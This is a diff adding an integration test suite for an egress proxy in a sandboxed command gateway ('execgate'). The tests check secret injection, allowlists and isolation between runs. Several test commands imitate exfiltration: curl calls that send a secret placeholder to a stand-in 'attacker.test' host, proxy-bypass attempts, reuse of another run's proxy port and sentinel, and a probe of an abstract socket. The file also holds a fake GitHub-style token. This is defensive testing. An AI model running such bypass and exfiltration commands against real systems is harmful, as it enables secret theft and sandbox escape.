@@ -1,0 +1,250 @@
+/*
+ * The egress proxy on the gateway's real runs: gateway.exec (sync, PTY, background) in the real
+ * bubblewrap sandbox, the runs sharing the gateway's loopback-only network namespace, curl going
+ * out through the run's bridge and the gateway's proxy to real servers on 127.0.0.1 (names mapped
+ * by the proxy's test-only resolver).
+ */
+import { readFileSync, writeFileSync, existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { setTimeout as delay } from 'node:timers/promises';
+import { createGateway, type Gateway } from '../../src/gateway';
+import { checkPlatform } from '../../src/sandbox/detect';
+import { baseEnv, makeTempDir } from '../helpers/tmp';
+import { makeNames, publicCa, startService, type TestService } from './helpers';
+
+const VALUE = 'ghp_R3alT0kenValue9xYzQ8wVu7tSr6qPo5nM4';
+const sandboxable = checkPlatform(undefined).ok;
+const maybe = sandboxable ? describe : describe.skip;
+
+let tmp: ReturnType<typeof makeTempDir>;
+let allowed: TestService;
+let attacker: TestService;
+let names: ReturnType<typeof makeNames>;
+
+beforeAll(async () => {
+  tmp = makeTempDir('execgate-egress-runs-');
+  allowed = await startService('allowed');
+  attacker = await startService('attacker');
+  names = makeNames({ 'allowed.test': allowed, 'attacker.test': attacker });
+});
+
+afterAll(async () => {
+  await allowed.close();
+  await attacker.close();
+  tmp.cleanup();
+});
+
+beforeEach(() => {
+  for (const service of [allowed, attacker]) {
+    service.seen.length = 0;
+    service.connections = 0;
+  }
+});
+
+function makeGateway(name: string, network: string): { gateway: Gateway; dir: string; home: string } {
+  const dir = join(tmp.dir, name);
+  const home = join(dir, 'home');
+  require('node:fs').mkdirSync(dir, { recursive: true });
+  const policy = join(dir, 'policy.yaml');
+  writeFileSync(policy, [
+    'version: 1',
+    `sandbox: { mode: required, network: ${network} }`,
+    'secrets:',
+    '  bind:',
+    '    - { ref: "secret:gh", hosts: [allowed.test], delivery: inject }',
+  ].join('\n'));
+  const gateway = createGateway({
+    home, env: baseEnv(), cwd: dir, policyFile: policy,
+    sources: [{ name: 'test', kinds: ['secret'], lookup: (_kind, id) => (id === 'gh' ? { found: true, value: VALUE } : { found: false }) }],
+    egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir },
+  });
+  return { gateway, dir, home };
+}
+
+/** The environment a command saw, as it wrote it to a file (not through the redacted output). */
+function environOf(path: string): Map<string, string> {
+  return new Map(readFileSync(path, 'utf8').split('\0').filter(Boolean).map((entry) => {
+    const at = entry.indexOf('=');
+    return [entry.slice(0, at), entry.slice(at + 1)] as [string, string];
+  }));
+}
+
+function refVariable(env: Map<string, string>): string {
+  const names = [...env.keys()].filter((n) => n.startsWith('EXECGATE_REF_'));
+  expect(names).toHaveLength(1);
+  return env.get(names[0]!)!;
+}
+
+async function waitForFile(path: string): Promise<void> {
+  for (let i = 0; i < 300 && !existsSync(path); i++) await delay(50);
+  expect(existsSync(path)).toBe(true);
+}
+
+maybe('allowlist: gateway runs reach the bound host through the proxy, with the value injected', () => {
+  let gateway: Gateway;
+  let dir: string;
+  let home: string;
+  beforeAll(() => ({ gateway, dir, home } = makeGateway('allowlist', '{ mode: allowlist, allow: [allowed.test] }')));
+  afterAll(async () => { await gateway.close(); });
+
+  test('sync: curl over HTTPS delivers the real value; the command\'s environ holds only the sentinel', async () => {
+    const result = await gateway.exec({
+      command: 'cat /proc/self/environ > environ.bin; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/sync',
+      cwd: dir,
+    });
+    expect(result.exitCode).toBe(0);
+    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/sync', `Bearer ${VALUE}`]]);
+    const env = environOf(join(dir, 'environ.bin'));
+    const sentinel = refVariable(env);
+    expect(sentinel).not.toBe(VALUE);
+    expect(sentinel).toHaveLength(VALUE.length);
+    expect(readFileSync(join(dir, 'environ.bin'), 'latin1')).not.toContain(VALUE);
+    expect(env.get('HTTPS_PROXY')).toMatch(/^http:\/\/run:[^@]+@127\.0\.0\.1:\d+$/);
+    // The service echoed the header: the proxy redacted it before the command could read it.
+    expect(result.stdout).toContain('"service":"allowed"');
+    expect(result.stdout).not.toContain(VALUE);
+    // The decisions are in the audit log under the run.
+    const records = readFileSync(join(home, 'audit.log'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const egress = records.filter((r) => r.event === 'egress.decision' && r.runId === result.id);
+    expect(egress.some((r) => r.host === 'allowed.test' && r.allowed === true && JSON.stringify(r.injected) === '["secret:gh"]')).toBe(true);
+    expect(readFileSync(join(home, 'audit.log'), 'utf8')).not.toContain(VALUE);
+  });
+
+  test('sync: the attacker host, not on the allowlist, receives no connection at all', async () => {
+    const result = await gateway.exec({
+      command: 'curl -sS --max-time 20 -H "X: <<secret:gh>>" https://attacker.test/ ; curl -sS --max-time 20 --proxy "$ALL_PROXY" http://attacker.test/ ; curl -sS --max-time 5 --noproxy "*" https://attacker.test/ ; echo done',
+      cwd: dir,
+    });
+    expect(result.stdout).toContain('done');
+    expect(attacker.connections).toBe(0);
+    expect(allowed.connections).toBe(0);
+  });
+
+  test('pty: the same through a terminal', async () => {
+    const result = await gateway.exec({ command: 'curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/pty', cwd: dir, mode: 'pty' });
+    expect(result.exitCode).toBe(0);
+    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/pty', `Bearer ${VALUE}`]]);
+    expect(result.stdout).not.toContain(VALUE);
+  });
+
+  test('background: the same from a background run, and its endpoint closes when it ends', async () => {
+    const started = await gateway.exec({
+      command: 'cat /proc/self/environ > bg-environ.bin; curl -sS --max-time 20 -H "Authorization: Bearer <<secret:gh>>" https://allowed.test/bg; echo "${HTTP_PROXY}" > bg-proxy.txt',
+      cwd: dir,
+      mode: 'background',
+    });
+    const ended = await gateway.background.wait(started.id, 30_000);
+    expect(ended.exitCode).toBe(0);
+    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/bg', `Bearer ${VALUE}`]]);
+    expect(readFileSync(join(dir, 'bg-environ.bin'), 'latin1')).not.toContain(VALUE);
+    // The run has ended: its credentials and port lead nowhere now (nothing listens, the proxy forgot them).
+    const proxyUrl = readFileSync(join(dir, 'bg-proxy.txt'), 'utf8').trim();
+    const late = await gateway.exec({ command: `curl -sS --max-time 10 --proxy '${proxyUrl}' http://allowed.test/late; echo "rc=$?"`, cwd: dir });
+    expect(late.stdout).toMatch(/rc=[1-9]/);
+    expect(allowed.seen.map((s) => s.url)).not.toContain('/late');
+  });
+
+  test('run B cannot use run A\'s bridge: not without credentials, not with its own, not with A\'s sentinel', async () => {
+    const a = await gateway.exec({
+      command: 'echo "${HTTP_PROXY##*:}" > a-port; printf %s <<secret:gh>> > a-sentinel; for i in $(seq 400); do [ -e a-release ] && break; sleep 0.05; done',
+      cwd: dir,
+      mode: 'background',
+    });
+    try {
+      await waitForFile(join(dir, 'a-sentinel'));
+      await waitForFile(join(dir, 'a-port'));
+      const b = await gateway.exec({
+        command: [
+          'port=$(cat a-port); s=$(cat a-sentinel)',
+          // Plain HTTP through A's port: no credentials, then B's own credentials.
+          'curl -sS -o /dev/null -w "none=%{http_code}\\n" --max-time 10 --proxy "http://127.0.0.1:$port" -H "Authorization: Bearer $s" http://allowed.test/b1',
+          'curl -sS -o /dev/null -w "own=%{http_code}\\n" --max-time 10 --proxy "${HTTP_PROXY%:*}:$port" -H "Authorization: Bearer $s" http://allowed.test/b2',
+          // CONNECT and SOCKS5 through A's port with B's credentials.
+          'curl -sS -o /dev/null -w "connect=%{http_connect}\\n" --max-time 10 --proxy "${HTTP_PROXY%:*}:$port" -H "Authorization: Bearer $s" https://allowed.test/b3',
+          'curl -sS -o /dev/null --max-time 10 --proxy "${ALL_PROXY%:*}:$port" -H "Authorization: Bearer $s" http://allowed.test/b4; echo "socks=$?"',
+          // Through B's own bridge A's sentinel is just text: B has no injection for it.
+          'curl -sS -o /dev/null -w "self=%{http_code}\\n" --max-time 10 -H "Authorization: Bearer $s" http://allowed.test/b5',
+        ].join('\n'),
+        cwd: dir,
+      });
+      expect(b.stdout).toContain('none=407');
+      expect(b.stdout).toContain('own=407');
+      expect(b.stdout).toContain('connect=407');
+      expect(b.stdout).toMatch(/socks=[1-9]/);
+      expect(b.stdout).toContain('self=200');
+      const sentinel = readFileSync(join(dir, 'a-sentinel'), 'utf8');
+      expect(sentinel).toHaveLength(VALUE.length);
+      expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/b5', `Bearer ${sentinel}`]]);
+    } finally {
+      writeFileSync(join(dir, 'a-release'), '');
+      await gateway.background.wait(a.id, 30_000);
+    }
+  });
+});
+
+maybe('network open (the default): every public host through the proxy, nothing of the host', () => {
+  let gateway: Gateway;
+  let dir: string;
+  let bus: import('node:net').Server;
+  const busName = `execgate-test-bus-${process.pid}`;
+  let busConnections = 0;
+  beforeAll(async () => {
+    ({ gateway, dir } = makeGateway('open', 'open'));
+    bus = require('node:net').createServer((socket: import('node:net').Socket) => { busConnections += 1; socket.end('BUS-ANSWERED\n'); });
+    await new Promise<void>((resolve) => bus.listen(`\0${busName}`, resolve));
+  });
+  afterAll(async () => {
+    await gateway.close();
+    await new Promise((resolve) => bus.close(resolve));
+  });
+
+  test('an unbound host is reached and gets at most the sentinel; the bound host gets the value', async () => {
+    const result = await gateway.exec({
+      command: 'curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" http://attacker.test/a; curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" https://allowed.test/b; echo done',
+      cwd: dir,
+    });
+    expect(result.output).toContain('done');
+    expect(result.output).toBe('done\n');
+    expect(allowed.seen.map((s) => s.headers.x)).toEqual([VALUE]);
+    expect(attacker.seen).toHaveLength(1);
+    expect(attacker.seen[0]!.headers.x).toHaveLength(VALUE.length);
+    expect(attacker.seen[0]!.headers.x).not.toBe(VALUE);
+  });
+
+  test('the host loopback, rebinding names and an abstract socket (a session bus) stay out of reach', async () => {
+    const probe = `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect("\\0${busName}"); print(s.recv(64))\nexcept Exception as e: print("refused", e)`;
+    const result = await gateway.exec({
+      command: `curl -sS --max-time 5 --noproxy "*" http://127.0.0.1:${allowed.httpPort}/ ; echo "direct=$?"; env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w "proxied=%{http_code}\\n" --max-time 10 http://127.0.0.1:${allowed.httpPort}/; curl -sS -o /dev/null -w "rebind=%{http_code}\\n" --max-time 10 http://rebind.test/; python3 -c '${probe}'`,
+      cwd: dir,
+    });
+    expect(result.stdout).toMatch(/direct=[1-9]/);
+    expect(result.stdout).toContain('proxied=403');
+    expect(result.stdout).toContain('rebind=403');
+    expect(result.stdout).toContain('refused');
+    expect(result.stdout).not.toContain('BUS-ANSWERED');
+    expect(busConnections).toBe(0);
+    expect(allowed.connections).toBe(0);
+  });
+});
+
+maybe('network none: nothing leaves a gateway run', () => {
+  let gateway: Gateway;
+  let dir: string;
+  beforeAll(() => ({ gateway, dir } = makeGateway('none', 'none')));
+  afterAll(async () => { await gateway.close(); });
+
+  test('no proxy variables, no route out, the host loopback services out of reach', async () => {
+    const result = await gateway.exec({
+      command: `env | grep -ci _proxy; curl -sS --max-time 5 https://allowed.test/ ; echo "name=$?"; curl -sS --max-time 5 http://127.0.0.1:${allowed.httpPort}/ ; echo "direct=$?"`,
+      cwd: dir,
+    });
+    expect(result.stdout).toMatch(/^0\n/);
+    expect(result.stdout).toMatch(/name=[1-9]/);
+    expect(result.stdout).toMatch(/direct=[1-9]/);
+    expect(allowed.connections).toBe(0);
+  });
+
+  test('a bound secret is refused before resolution (its host is unreachable)', async () => {
+    await expect(gateway.exec({ command: 'curl -H "X: <<secret:gh>>" https://allowed.test/', cwd: dir })).rejects.toMatchObject({ code: 'EXECGATE_ERR_EGRESS_UNREACHABLE' });
+  });
+});
